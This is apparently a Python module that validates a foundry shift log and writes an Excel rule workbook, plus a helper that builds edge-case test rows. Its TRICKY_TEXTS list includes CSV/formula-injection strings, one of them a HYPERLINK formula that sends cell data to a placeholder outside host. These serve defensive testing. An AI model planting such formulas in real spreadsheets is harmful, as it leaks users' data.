"""The toolkit's rule workbook (:mod:`pocmvp.toolkit.workbook`) for the plant's shift log.

:func:`write_rule_workbook` checks the shift log strictly against the plant's fields
(:func:`pocmvp.case.plant_rule.validate_for_rule`) and writes the toolkit's workbook with the
plant's schema: the data sheet **Shift log** with the columns known when a part is routed
(never the truth nor ``rework_minutes``) and the live column ``send_to_xray``, the Summary
over the X-ray capacity, the Rule sheet, and the Rejected sheet (empty for a valid shift
log). :func:`tricky_rows` builds rows meant to trip a spreadsheet.
"""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pandas as pd

from pocmvp.case import factory
from pocmvp.case.factory import SCHEMA
from pocmvp.case.plant_rule import SHIFT_COLUMN, validate_for_rule
from pocmvp.case.status_quo import ECONOMICS, PlantEconomics
from pocmvp.toolkit import cells
from pocmvp.toolkit import workbook as _workbook
from pocmvp.toolkit.rule import Rule
from pocmvp.toolkit.workbook import (  # noqa: F401 - the toolkit's names, re-exported
    HIGHLIGHT,
    OVER_CAPACITY,
    REJECTED_SHEET,
    RULE_SHEET,
    SUMMARY_SHEET,
)
from pocmvp.toolkit.workbook_sheets import (  # noqa: F401 - re-exported
    MONTH_TABLE_FIRST_ROW,
    SUMMARY_CELLS,
    flag_column,
)

DATA_SHEET = "Shift log"
FLAG_HEADER = "send_to_xray"
FLAG_COLUMN = flag_column(SCHEMA)
"""The letter of the rule's formula column on the data sheet."""
_WIDTHS = {"part_id": 13, "cast_at": 17, "alloy_lot": 11, "shots_since_maintenance": 12}
_FIELDS = {f.name: f for f in factory.SHIFT_LOG_FIELDS}


def write_rule_workbook(
    shift_log: pd.DataFrame,
    rule: Rule,
    path: str | Path,
    *,
    economics: PlantEconomics = ECONOMICS,
    notes: Sequence[str] = (),
    rejected: pd.DataFrame | None = None,
) -> Path:
    """Write the rule workbook for ``shift_log`` to ``path`` and return the path.

    The shift log is validated first (:func:`pocmvp.case.plant_rule.validate_for_rule`);
    truth columns may be present and are left out. ``notes`` are extra lines for the Rule
    sheet (e.g. the months the rule was chosen on).
    """
    cells.check_row_count(len(shift_log), sheet=DATA_SHEET)  # before validating a huge table
    validate_for_rule(shift_log, rule)
    return _workbook.write_rule_workbook(
        shift_log,
        rule,
        path,
        schema=SCHEMA,
        capacity=economics.inspection_capacity_share,
        notes=notes,
        data_sheet=DATA_SHEET,
        flag_header=FLAG_HEADER,
        widths=_WIDTHS,
        labels={"rows": "parts"},
        rejected=rejected,
    )


TRICKY_TEXTS = (
    '=HYPERLINK("http://x.example/?"&A2,"x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "Gießerei Süd",
    "合金",
    "TRUE",
    "'quoted",
)
"""Text that a careless writer would turn into formulas, numbers or mojibake."""


def tricky_rows(shift_log: pd.DataFrame, rule: Rule) -> pd.DataFrame:
    """Valid shift-log rows built to trip a spreadsheet, from the first rows of ``shift_log``:
    each rule column exactly at its threshold and one recorded step to either side, missing
    where the column may be missing (for a condition scoped to shifts: on one of its shifts
    and on a shift outside its scope), and text that starts with ``= + - @`` or is not ASCII.
    """
    rows = []
    template = shift_log.iloc[0]
    for condition in rule.conditions:
        field = _FIELDS[condition.column]
        step = 1.0 if field.dtype == "int64" else 0.1
        values = [condition.threshold + d * step for d in (-1, 0, 1)]
        if field.nullable:
            values.append(np.nan)
        shifts = [template[SHIFT_COLUMN]]
        if condition.scoped:
            outside = [s for s in factory.SHIFTS if s not in condition.shifts]
            shifts = [condition.shifts[0], *outside[:1]]
        for value in values:
            for shift in shifts:
                row = template.copy()
                row[condition.column] = value
                row[SHIFT_COLUMN] = shift
                rows.append(row)
    nothing = template.copy()
    for condition in rule.conditions:
        if _FIELDS[condition.column].nullable:
            nothing[condition.column] = np.nan
    rows.append(nothing)
    text_columns = ("supplier", "alloy_lot", "mould_id", "cell")
    for index, text in enumerate(TRICKY_TEXTS):
        row = shift_log.iloc[(index + 1) % len(shift_log)].copy()
        for column in text_columns:
            row[column] = text
        rows.append(row)
    tricky = pd.DataFrame(rows).reset_index(drop=True)
    tricky["part_id"] = [f"T-{i:04d}" for i in range(len(tricky))]
    tricky.loc[len(tricky) - 1, "part_id"] = "=A1"  # an id that looks like a formula
    return tricky.astype(shift_log.dtypes.to_dict())
